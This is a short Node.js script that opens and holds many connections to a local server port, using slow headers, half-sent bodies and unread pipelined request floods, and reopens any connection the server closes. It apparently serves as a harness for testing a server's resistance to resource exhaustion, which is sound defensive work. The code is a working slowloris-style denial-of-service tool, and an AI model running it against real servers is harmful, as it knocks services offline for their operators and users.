// SPDX-License-Identifier: Apache-2.0
// slow_crowd.mjs JSON: holds connections open as an attacker does, until it is killed. {"port", "slow": connections that send headers one
// byte in four seconds, "halfOpen": connections that state a body and send a part of it, "pipelined": connections that send requests as fast as
// they can and read no answer, "path", "bodyBytes"}. A connection that the server closes is opened again. Prints "ready" when all were opened
// once.

import { connect } from 'node:net';

const {
  port,
  slow = 0,
  halfOpen = 0,
  pipelined = 0,
  path = '/',
  bodyBytes = 60_000,
  headers = '',
} = JSON.parse(process.argv[2]);
const BYTE_EVERY_MS = 4000;
const AGAIN_MS = 1000;
const AGAIN_PIPELINED_MS = 100;
const HEAD = `POST ${path} HTTP/1.1\r\nHost: site.example\r\n`;

let opened = 0;
const REQUESTS = Buffer.from('GET /a HTTP/1.1\r\nHost:a\r\n\r\n'.repeat(2500));
const waitForAll = slow + halfOpen + pipelined;

/** @param {(socket: import('node:net').Socket) => (() => void)} behave returns what ends it */
function attack(behave, again = AGAIN_MS) {
  const socket = connect({ port, host: '127.0.0.1' });
  let end = () => {};
  socket.once('connect', () => {
    end = behave(socket);
    if (++opened === waitForAll) process.stdout.write('ready\n');
  });
  socket.on('error', () => {});
  socket.resume();
  socket.once('close', () => {
    end();
    setTimeout(() => attack(behave, again), again);
  });
}

/** @param {import('node:net').Socket} socket */
function slowHeaders(socket) {
  const text = `${HEAD}X-Slow: ${'x'.repeat(4000)}`;
  let at = 0;
  const timer = setInterval(() => socket.write(text[at++ % text.length]), BYTE_EVERY_MS);
  return () => clearInterval(timer);
}

/** @param {import('node:net').Socket} socket */
function halfABody(socket) {
  socket.write(`${HEAD}${headers}Content-Length: ${bodyBytes}\r\n\r\n`);
  socket.write(Buffer.alloc(Math.floor(bodyBytes * 0.9)));
  return () => {};
}

/** @param {import('node:net').Socket} socket */
function pipelinedRequests(socket) {
  socket.pause();
  const more = () => {
    while (!socket.destroyed && socket.write(REQUESTS));
  };
  socket.on('drain', more);
  more();
  return () => {};
}

for (let i = 0; i < slow; i++) attack(slowHeaders);
for (let i = 0; i < halfOpen; i++) attack(halfABody);
for (let i = 0; i < pipelined; i++) attack(pipelinedRequests, AGAIN_PIPELINED_MS);
